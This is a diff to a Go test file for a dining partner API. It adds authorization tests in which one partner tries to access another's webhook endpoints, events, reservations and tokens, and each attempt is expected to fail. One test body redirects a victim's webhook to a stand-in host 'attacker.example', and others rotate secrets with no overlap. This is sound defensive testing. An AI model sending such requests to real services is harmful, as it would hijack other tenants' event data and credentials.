@@ -5,6 +5,7 @@ package server_test
 // (API4) are in limits_test.go; authentication (API2) in guard_test.go.
 
 import (
+	"context"
 	"encoding/json"
 	"fmt"
 	"net/http"
@@ -12,14 +13,16 @@ import (
 	"sort"
 	"strings"
 	"testing"
+	"time"
 
+	"github.com/prima-dining/partner-api/internal/access"
 	"github.com/prima-dining/partner-api/store"
 	"github.com/prima-dining/partner-api/store/storetest"
 )
 
 // victim is what partner A owns, for partner B to attack.
 type victim struct {
-	venueID, reservationID, paymentIntentID, webhookEndpointID, watchID string
+	venueID, reservationID, paymentIntentID, webhookEndpointID, watchID, eventID, tokenID string
 }
 
 // bolaCalls is every operation whose path names an object, called with A's ids. The
@@ -54,6 +57,32 @@ var bolaCalls = map[string]func(v victim) (method, path, body string){
 	"cancelWatch": func(v victim) (string, string, string) {
 		return "POST", "/v1/watches/" + v.watchID + "/cancel", ""
 	},
+	"getWebhookEndpoint": func(v victim) (string, string, string) {
+		return "GET", "/v1/webhook_endpoints/" + v.webhookEndpointID, ""
+	},
+	"updateWebhookEndpoint": func(v victim) (string, string, string) {
+		return "PATCH", "/v1/webhook_endpoints/" + v.webhookEndpointID, `{"url":"https://attacker.example/hooks"}`
+	},
+	"pingWebhookEndpoint": func(v victim) (string, string, string) {
+		return "POST", "/v1/webhook_endpoints/" + v.webhookEndpointID + "/ping", ""
+	},
+	"rotateWebhookEndpointSecret": func(v victim) (string, string, string) {
+		return "POST", "/v1/webhook_endpoints/" + v.webhookEndpointID + "/rotate_secret", `{"overlap_seconds":0}`
+	},
+	"getEvent": func(v victim) (string, string, string) { return "GET", "/v1/events/" + v.eventID, "" },
+	"listEventAttempts": func(v victim) (string, string, string) {
+		return "GET", "/v1/events/" + v.eventID + "/attempts", ""
+	},
+	"redeliverEvent": func(v victim) (string, string, string) {
+		return "POST", "/v1/events/" + v.eventID + "/redeliver", fmt.Sprintf(`{"webhook_endpoint_id":%q}`, v.webhookEndpointID)
+	},
+	"syncReservation": func(v victim) (string, string, string) {
+		return "POST", "/v1/reservations/" + v.reservationID + "/sync", ""
+	},
+	"revokeToken": func(v victim) (string, string, string) { return "DELETE", "/v1/tokens/" + v.tokenID, "" },
+	"rotateToken": func(v victim) (string, string, string) {
+		return "POST", "/v1/tokens/" + v.tokenID + "/rotate", `{"overlap_seconds":0}`
+	},
 	"confirmSandboxPaymentIntent": func(v victim) (string, string, string) {
 		return "POST", "/v1/sandbox/payment_intents/" + v.paymentIntentID + "/confirm", `{"outcome":"succeeded"}`
 	},
@@ -79,13 +108,24 @@ func TestBOLATableCoversEveryOperationWithAnID(t *testing.T) {
 	}
 }
 
+// partnerOf is the partner of a reservation.
+func partnerOf(t *testing.T, db *store.DB, reservationID string) string {
+	t.Helper()
+	r, err := db.GetReservation(context.Background(), "", reservationID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return r.PartnerID
+}
+
 // snapshot is the database's state that an attack must not change.
 func snapshot(t *testing.T, db *store.DB) string {
 	t.Helper()
 	var out []string
 	for _, q := range []string{
 		"SELECT id, status, payment_status, COALESCE(payment_intent_id, ''), updated_at FROM reservations",
-		"SELECT id, status, url FROM webhook_endpoints",
+		"SELECT id, status, url, secret, events FROM webhook_endpoints",
+		"SELECT id, revoked_at IS NULL FROM tokens",
 		"SELECT id, tables_taken, updated_at FROM slots",
 		"SELECT id, type, status FROM outbox",
 		"SELECT id, type FROM reservation_events",
@@ -137,11 +177,21 @@ func TestBOLAAnotherPartnersObjectsAre404AndUnchanged(t *testing.T) {
 		}
 		we := string(regexp.MustCompile(`"id":"(we_[^"]+)"`).FindSubmatch(body)[1])
 		wat := e.createWatch(t, e.token, watchBody(slots[0], false, 1))
-		vic := victim{venueID: v.ID, reservationID: res.ID, paymentIntentID: res.Payment.PaymentIntentID, webhookEndpointID: we, watchID: wat.Id}
+		var events []store.PartnerEvent
+		owner := partnerOf(t, db, res.ID)
+		err := db.Transact(context.Background(), func(tx *store.Tx) (err error) {
+			events, err = tx.EmitPartnerEvents(owner, res.ID, v.ID, []string{"reservation.updated"}, time.Now())
+			return err
+		})
+		if err != nil || len(events) != 1 {
+			t.Fatalf("event: %v", err)
+		}
+		vic := victim{venueID: v.ID, reservationID: res.ID, paymentIntentID: res.Payment.PaymentIntentID, webhookEndpointID: we, watchID: wat.Id, eventID: events[0].ID,
+			tokenID: tokenID(t, e, e.token)}
 
 		// B has every scope; venues are shared, so B's venue check uses a partner that
 		// may sell none.
-		attacker := e.newToken("partner-b")
+		attacker := e.newToken("partner-b", access.AllScopes...)
 		restricted := e.newToken("partner-restricted")
 		if _, err := db.SQL().Exec("UPDATE partners SET all_venues = false WHERE name = 'partner-restricted'"); err != nil {
 			t.Fatal(err)
